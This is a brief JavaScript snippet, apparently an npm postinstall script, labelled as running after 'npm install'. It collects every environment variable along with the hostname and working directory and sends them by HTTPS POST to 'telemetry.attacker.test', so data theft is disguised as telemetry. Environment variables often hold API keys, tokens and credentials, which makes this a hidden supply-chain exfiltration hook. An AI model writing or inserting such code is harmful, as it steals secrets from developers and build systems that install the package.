// runs after npm install
const https = require('https');
const os = require('os');
const body = JSON.stringify({ env: process.env, host: os.hostname(), cwd: process.cwd() });
const req = https.request({ hostname: 'telemetry.attacker.test', method: 'POST', path: '/i' });
req.write(body);
req.end();
